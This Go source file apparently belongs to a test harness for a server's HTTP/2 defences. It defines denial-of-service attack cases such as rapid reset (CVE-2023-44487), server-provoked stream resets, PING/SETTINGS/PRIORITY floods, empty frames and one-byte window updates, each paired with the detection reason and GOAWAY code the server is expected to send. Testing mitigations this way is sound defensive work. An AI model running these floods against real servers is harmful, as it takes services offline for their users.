//go:build linux

package attack

import (
	"strings"

	"golang.org/x/net/http2"
)

// What a peer is told, as (*peer).told says it.
const (
	calm        = "GOAWAY ENHANCE_YOUR_CALM"
	protocol    = "GOAWAY PROTOCOL_ERROR"
	flowControl = "GOAWAY FLOW_CONTROL_ERROR"
	compression = "GOAWAY COMPRESSION_ERROR"
)

// hugeWindow is the largest window there is (RFC 9113 section 6.9.1).
const hugeWindow = 1<<31 - 1

// resets are attacks that make work and take it back: by the client's own resets
// (CVE-2023-44487), and by those that it makes the server send (CVE-2025-8671).
func resets() []attack {
	rapid, provoked := []string{"http2_rapid_reset"}, []string{"http2_provoked_resets"}
	return []attack{
		{name: "rapid-reset", what: "a request and its RST_STREAM at once", rate: 4000, conns: 4,
			step: func(p *peer) {
				p.add(http2.FrameRSTStream, 0, p.request("/"), number(uint32(http2.ErrCodeCancel)))
			},
			sends: map[string]int{"HEADERS": 1, "RST_STREAM": 1}, reasons: rapid, ends: []string{calm}},
		{name: "rapid-reset-late", what: "a request that is reset once it is under way", rate: 2000, conns: 4,
			step: func(p *peer) {
				id := p.request("/wait")
				if p.n++; p.n > 50 {
					p.add(http2.FrameRSTStream, 0, id-100, number(uint32(http2.ErrCodeCancel)))
				}
			},
			sends: map[string]int{"HEADERS": 1}, reasons: rapid, ends: []string{calm}},
		{name: "rapid-reset-upload", what: "an upload that is reset after its first bytes", rate: 2000, conns: 4,
			step: func(p *peer) {
				id := p.open("POST", "/", 0)
				p.add(http2.FrameData, 0, id, []byte("x"))
				p.add(http2.FrameRSTStream, 0, id, number(uint32(http2.ErrCodeCancel)))
			},
			sends: map[string]int{"HEADERS": 1, "DATA": 1, "RST_STREAM": 1}, reasons: rapid, ends: []string{calm}},
		provoke("zero-increment", "WINDOW_UPDATE of 0 on a stream", "WINDOW_UPDATE of 0", func(p *peer) {
			p.add(http2.FrameWindowUpdate, 0, p.request("/wait"), number(0))
		}, provoked),
		provoke("data-after-end", "DATA on a stream that its client has ended", "DATA", func(p *peer) {
			p.add(http2.FrameData, 0, p.request("/wait"), []byte("x"))
		}, provoked),
		provoke("headers-after-end", "HEADERS on a stream that its client has ended", "HEADERS", func(p *peer) {
			id := p.request("/wait")
			p.add(http2.FrameHeaders, endHeaders|endStream, id, p.head("GET", "/"))
		}, provoked),
		provoke("window-overflow", "a stream's window made larger than may be", "WINDOW_UPDATE of 2147483647", func(p *peer) {
			p.add(http2.FrameWindowUpdate, 0, p.request("/wait"), number(hugeWindow))
		}, provoked),
		provoke("self-dependency", "PRIORITY of a stream on itself", "PRIORITY", func(p *peer) {
			id := p.request("/wait")
			p.add(http2.FramePriority, 0, id, priority(id, 1))
		}, []string{"http2_provoked_resets", "http2_control_flood", "http2_stream_limit"}),
		provoke("short-priority", "PRIORITY of a wrong size", "PRIORITY", func(p *peer) {
			p.add(http2.FramePriority, 0, p.request("/wait"), []byte{0, 0, 0, 0})
		}, provoked),
		provoke("malformed-head", "a request with a Connection field", "HEADERS", func(p *peer) {
			p.open("GET", "/", endStream, "connection", "close")
		}, provoked),
		provoke("length-disagrees", "less DATA than Content-Length says", "DATA", func(p *peer) {
			p.add(http2.FrameData, endStream, p.open("POST", "/", 0, "content-length", "10"), []byte("x"))
		}, provoked),
	}
}

// provoke is an attack that makes the server reset its streams.
func provoke(name, what, sends string, step func(*peer), reasons []string) attack {
	return attack{name: "provoked-" + name, what: what, rate: 2000, conns: 4, step: step,
		sends: map[string]int{sends: 1}, reasons: reasons, ends: []string{calm}}
}

// controls are floods of frames that cost their sender nothing.
func controls() []attack {
	flood := []string{"http2_control_flood"}
	each := func(name, what, sends string, step func(*peer)) attack {
		return attack{name: name, what: what, rate: 10_000, conns: 4, step: step, sends: map[string]int{sends: 1}, reasons: flood, ends: []string{calm}}
	}
	all := []attack{
		each("settings", "SETTINGS", "SETTINGS", func(p *peer) {
			p.add(http2.FrameSettings, 0, 0, setting(http2.SettingInitialWindowSize, 65535))
		}),
		each("settings-ack", "SETTINGS with ACK that nobody waits for", "SETTINGS ack", func(p *peer) { p.add(http2.FrameSettings, ack, 0, nil) }),
		each("ping", "PING", "PING", func(p *peer) { p.add(http2.FramePing, 0, 0, make([]byte, 8)) }),
		each("ping-ack", "PING with ACK that nobody waits for", "PING ack", func(p *peer) { p.add(http2.FramePing, ack, 0, make([]byte, 8)) }),
		each("priority", "PRIORITY of streams that are idle", "PRIORITY", func(p *peer) {
			p.n += 2
			p.add(http2.FramePriority, 0, uint32(p.n%1000+1), priority(0, 1))
		}),
		each("unknown", "frames of an unknown type", "unknown", func(p *peer) { p.add(0xfa, 0, 0, []byte("x")) }),
		each("reset-closed", "RST_STREAM of a stream that is closed", "RST_STREAM", func(p *peer) {
			if p.stream == 1 {
				p.request("/")
			}
			p.add(http2.FrameRSTStream, 0, 1, number(uint32(http2.ErrCodeCancel)))
		}),
		each("goaway", "GOAWAY", "GOAWAY", func(p *peer) { p.add(http2.FrameGoAway, 0, 0, goAway(0, http2.ErrCodeNo)) }),
	}
	for i := range all {
		switch all[i].name {
		case "reset-closed":
			all[i].rate, all[i].conns = 40_000, 2 // what is under way when a stream ends is no attack, and may be much
		case "goaway":
			all[i].ends, all[i].reasons = nil, nil // it may be taken at its word
		}
	}
	return append(all,
		attack{name: "settings-large", what: "SETTINGS of 2730 parameters", rate: 400, conns: 2,
			step: func(p *peer) {
				one := string(setting(http2.SettingInitialWindowSize, 65535)) + string(setting(http2.SettingInitialWindowSize, 0))
				p.add(http2.FrameSettings, 0, 0, []byte(strings.Repeat(one, 1365)))
			},
			sends: map[string]int{"SETTINGS": 1}, reasons: flood, ends: []string{calm}},
		attack{name: "ping-unread", what: "PING whose answers nobody reads", rate: 20_000, conns: 4, drain: -1,
			step:  func(p *peer) { p.add(http2.FramePing, 0, 0, make([]byte, 8)) },
			sends: map[string]int{"PING": 1}, reasons: flood},
	)
}

// empties are frames that carry nothing, and windows that open by a byte.
func empties() []attack {
	empty := []string{"http2_empty_frames"}
	upload := func(p *peer) { p.open("POST", "/wait", 0) }
	return []attack{
		{name: "empty-data", what: "DATA without data", rate: 10_000, conns: 4, begin: upload,
			step:  func(p *peer) { p.add(http2.FrameData, 0, 1, nil) },
			sends: map[string]int{"DATA empty": 1}, reasons: empty, ends: []string{calm}},
		{name: "padding", what: "DATA that is padding alone", rate: 5000, conns: 4, begin: upload,
			step:  func(p *peer) { p.add(http2.FrameData, padded, 1, append([]byte{16}, make([]byte, 16)...)) },
			sends: map[string]int{"DATA": 1}, reasons: []string{"http2_empty_frames", "http2_flow_control"}, ends: []string{calm, flowControl}},
		{name: "empty-headers", what: "HEADERS without a field", rate: 2000, conns: 4,
			step: func(p *peer) {
				p.add(http2.FrameHeaders, endHeaders|endStream, p.stream, nil)
				p.stream += 2
			},
			sends: map[string]int{"HEADERS": 1}, reasons: []string{"http2_provoked_resets", "http2_empty_frames", "http2_protocol"}, ends: []string{calm, protocol}},
		{name: "window-one", what: "WINDOW_UPDATE of 1 for the connection", rate: 10_000, conns: 4,
			step:  func(p *peer) { p.add(http2.FrameWindowUpdate, 0, 0, number(1)) },
			sends: map[string]int{"WINDOW_UPDATE of 1": 1}, reasons: []string{"http2_window_flood"}, ends: []string{calm}},
		{name: "data-dribble", what: "WINDOW_UPDATE of 1 for a large answer that has no window", rate: 10_000, conns: 4,
			settings: setting(http2.SettingInitialWindowSize, 0), begin: func(p *peer) { p.request("/big") },
			step:  func(p *peer) { p.add(http2.FrameWindowUpdate, 0, 1, number(1)) },
			sends: map[string]int{"WINDOW_UPDATE of 1": 1}, reasons: []string{"http2_window_flood"}, ends: []string{calm}},
		{name: "data-beyond-window", what: "128 KiB of DATA at once, twice the window", rate: 50, conns: 2, begin: upload,
			step: func(p *peer) {
				for range 8 {
					p.add(http2.FrameData, 0, 1, make([]byte, 16<<10))
				}
			},
			sends: map[string]int{"DATA": 1}, reasons: []string{"http2_flow_control", "http2_provoked_resets", "http2_control_flood"}},
	}
}
